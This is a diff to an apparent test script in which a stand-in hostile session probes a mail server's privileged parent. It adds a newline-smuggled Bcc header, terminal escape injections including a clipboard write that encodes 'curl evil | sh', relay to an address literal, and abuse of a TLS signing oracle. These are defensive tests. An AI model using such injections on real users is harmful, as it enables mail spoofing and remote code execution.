@@ -106,8 +106,15 @@ if case == "good":
     assert t == T["PS_CHECK_ANS"] and p == u32(MAILBOX_OK), (t, p)
     deliver(memfd(MSG), len(MSG))
     t, p = recv()
-    assert t == T["PS_DELIVER_ANS"] and p == u32(0) + u32(0), (t, p)
+    # 0, RELAY_OK, and no recipient missed (an empty byte string).
+    assert t == T["PS_DELIVER_ANS"] and p == u32(0) + u32(0) + u32(0), (t, p)
     sys.exit(0)
+elif case == "bad-id":
+    # An id that would add a header field to a report (parent/report.c).
+    lookup("bob")
+    send(T["PS_RCPT"], s("bob") + s(""))
+    send(T["PS_DELIVER"], u64(len(MSG)) + u32(1) + s("ID\nBcc: victim@example.org") + s(""),
+         fd=memfd(MSG))
 elif case == "unlooked":
     send(T["PS_RCPT"], s("bob") + s(""))
     send(T["PS_DELIVER"], delivery(len(MSG)), fd=memfd(MSG))
@@ -139,7 +146,7 @@ elif case == "overannounced":
                 fcntl.F_SEAL_WRITE | fcntl.F_SEAL_SEAL)
     send(T["PS_DELIVER"], delivery(len(MSG)), fd=fd)
     t, p = recv()
-    assert t == T["PS_DELIVER_ANS"] and p != u32(0) + u32(0), (t, p)
+    assert t == T["PS_DELIVER_ANS"] and p[:8] != u32(0) + u32(0), (t, p)
     sys.exit(0)
 elif case == "more-unbegun":
     send(T["PS_MORE"], u64(10))
@@ -173,6 +180,23 @@ elif case == "ttyremote":
     assert t == T["PS_TTY_ANS"], (t, p)
     if os.environ.get("TCPREMOTEIP") == "127.0.0.1":
         sys.exit(0)	# the control: a loopback client may
+elif case in ("ttygood", "ttytitle", "ttyclear", "ttybanner", "ttyosc52"):
+    # Terminal text for bob: the control is laid out as tty_render() makes it; the
+    # others carry what a taken-over session would put on a user's screen.
+    head = b"\r\nMessage from a@example.org on h (192.0.2.1) at 12:00 ...\r\n"
+    body = {
+        "ttygood": b"| hello bob\r\n",
+        "ttytitle": b"| \x1b]0;you have been pwned\x07\r\n",
+        "ttyclear": b"\x1b[2J\x1b[H| hi\r\n",
+        "ttybanner": b"| hi\r\n\r\nMessage from root@localhost on localhost (127.0.0.1)\r\n",
+        "ttyosc52": b"| \x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\r\n",
+    }[case]
+    lookup("bob")
+    send(T["PS_RCPT"], s("bob") + s(""))
+    send(T["PS_TTY_WRITE"], s(head + body + b"EOF\r\n"))
+    t, p = recv()
+    assert t == T["PS_TTY_ANS"], (t, p)
+    sys.exit(0)
 elif case == "authtime":
     # The parent itself holds a failure back to --auth-delay: the session process,
     # which could time PAM, sees every failure take at least that long.
@@ -211,6 +235,19 @@ elif case == "relay-unauthenticated":
     t, p = recv()
     assert t == T["PS_LOOKUP_ANS"] and struct.unpack("=I", p[:4])[0] == LOOKUP_RELAY_DENIED, p
     send(T["PS_ACCEPT"])
+elif case == "relay-literal":
+    # After a successful AUTH, an address literal: the parent refuses to relay it
+    # (550 5.7.1 in the session), and a session that accepts it anyway is ended.
+    send(T["PS_AUTH"], s("alice") + s("secret") + s("127.0.0.1"))
+    t, p = recv()
+    assert t == T["PS_AUTH_ANS"] and struct.unpack("=I", p[:4])[0] == 0, p
+    send(T["PS_MAIL"], s(""))	# the null sender: no address of alice's needed
+    t, p = recv()
+    assert t == T["PS_MAIL_ANS"], (t, p)
+    send(T["PS_LOOKUP"], s("x") + s("[127.0.0.1]"))
+    t, p = recv()
+    assert t == T["PS_LOOKUP_ANS"] and struct.unpack("=I", p[:4])[0] == LOOKUP_RELAY_DENIED, p
+    send(T["PS_ACCEPT"])
 elif case == "fifo":
     d = os.environ["HOSTILE_DIR"]
     os.mkfifo(d + "/fifo")
@@ -225,6 +262,42 @@ elif case == "no-spool":
     lookup("bob")
     send(T["PS_RCPT"], s("bob") + s(""))
     send(T["PS_DELIVER"], delivery(len(MSG)))
+elif case.startswith("sign-"):
+    # Issue 21: run with --tls-cert/--tls-key of an ECDSA P-256 pair: the real session
+    # setup (before this stand-in) asked PS_TLS_KEYS already.
+    gt = open("/usr/include/gnutls/gnutls.h").read()
+    G = {n: int(v) for n, v in re.findall(r"\b(GNUTLS_SIGN_[A-Z0-9_]+) = (\d+)", gt)}
+    P256 = G["GNUTLS_SIGN_ECDSA_SECP256R1_SHA256"]
+
+    def sign(pair, algo, data):
+        send(T["PS_SIGN"], u32(pair) + u32(algo) + s(data))
+
+    if case == "sign-good":	# the control: one handshake's signature is made
+        sign(0, P256, b"h" * 32)
+        t, p = recv()
+        assert t == T["PS_SIGN_ANS"] and p[:4] == u32(0) and len(p) > 8, (t, p)
+        sys.exit(0)
+    elif case == "sign-many":	# an oracle: signature after signature
+        for i in range(10):
+            sign(0, P256, bytes([i]) * 32)
+            t, p = recv()
+            assert t == T["PS_SIGN_ANS"] and p[:4] == u32(0), (t, p)
+    elif case == "sign-raw":	# raw RSA of chosen data with an ECDSA key
+        sign(0, G["GNUTLS_SIGN_RSA_RAW"], b"x" * 51)
+    elif case == "sign-length":	# a "hash" of another length than SHA-256's
+        sign(0, P256, b"h" * 200)
+    elif case == "sign-curve":	# P-384's algorithm with a P-256 key
+        sign(0, G["GNUTLS_SIGN_ECDSA_SECP384R1_SHA384"], b"h" * 48)
+    elif case == "sign-pair":	# a pair there is not
+        sign(5, P256, b"h" * 32)
+    elif case == "sign-keys-twice":
+        send(T["PS_TLS_KEYS"])
+    elif case == "sign-pending":	# with recipients pending
+        lookup("bob")
+        send(T["PS_RCPT"], s("bob") + s(""))
+        sign(0, P256, b"h" * 32)
+    elif case == "sign-no-tls":	# run without TLS options
+        sign(0, P256, b"h" * 32)
 else:
     sys.exit("unknown HOSTILE_CASE " + case)
 # The parent must now kill us; wait for it, but not for ever.
